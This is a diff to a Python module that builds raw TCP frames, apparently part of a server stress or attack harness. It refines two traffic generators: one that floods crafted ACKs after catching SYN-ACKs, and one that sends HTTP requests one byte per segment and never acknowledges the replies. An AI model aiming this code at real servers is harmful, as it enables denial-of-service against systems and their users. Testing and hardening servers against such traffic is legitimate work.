@@ -32,7 +32,7 @@ _CLIENTS, _PACE_SECONDS, _PATIENCE_SECONDS = 4, 0.02, 2.0
 _ROUND_TRIP_SECONDS = 0.2
 # offsets in a frame
 _IP_CHECKSUM, _SOURCE_HOST, _SOURCE_PORT, _DESTINATION_PORT = 24, 28, 34, 36
-_ACKNOWLEDGED, _FLAGS, _CHECKSUM = 42, 47, 50
+_SEQUENCE, _ACKNOWLEDGED, _FLAGS, _CHECKSUM = 38, 42, 47, 50
 _SYN_ACK = 0x12
 _FILES = 4096
 Act = Callable[[Peer, float], None]
@@ -49,6 +49,11 @@ def _changed(frame: bytes, at: int, word: int, checksums: tuple[int, ...] = (_CH
             total = (total & 0xffff) + (total >> 16)
         struct.pack_into("!H", made, place, total ^ 0xffff)
     return bytes(made)
+
+
+def _numbered(frame: bytes, at: int, number: int) -> bytes:
+    """Return the frame with another 32-bit number there."""
+    return _changed(_changed(frame, at, number >> 16), at + 2, number & 0xffff)
 
 
 def _cycle(frames: Sequence[bytes], per_second: int, seconds: float) -> Iterator[bytes]:
@@ -116,10 +121,8 @@ def orphans(peer: Peer, seconds: float) -> None:
         for frame in peer.caught():
             if len(frame) > _FLAGS and frame[_FLAGS] == _SYN_ACK:
                 port, sequence = struct.unpack_from("!HI", frame, _DESTINATION_PORT)
-                sequence += 1
-                made = _changed(ask, _SOURCE_PORT, port)
-                made = _changed(made, _ACKNOWLEDGED, sequence >> 16 & 0xffff)
-                asked.append(_changed(made, _ACKNOWLEDGED + 2, sequence & 0xffff))
+                asked.append(_numbered(_changed(ask, _SOURCE_PORT, port), _ACKNOWLEDGED,
+                                       add(sequence, 1)))
         peer.flood(asked, 40_000)
         if time.monotonic() > until:
             return
@@ -128,9 +131,10 @@ def orphans(peer: Peer, seconds: float) -> None:
 def one_byte_segments(peer: Peer, seconds: float) -> None:
     """GETs in segments of one byte each on one connection, whose answers are never acknowledged."""
     connection = peer.connect()
-    text = request(peer.server) * 1000
-    peer.flood((peer.frame(connection.build("PA", text[at:at + 1], seq=add(connection.seq, at)))
-                for at in range(min(len(text), int(seconds * 10_000)))), 10_000)
+    text = request(peer.server) * 2000
+    frames = {byte: peer.frame(connection.build("PA", bytes((byte,)))) for byte in set(text)}
+    peer.flood((_numbered(frames[byte], _SEQUENCE, add(connection.seq, number))
+                for number, byte in enumerate(text[:int(seconds * 10_000)])), 10_000)
 
 
 def _mute(peer: Peer, clients: int, data: bytes, seconds: float) -> None:
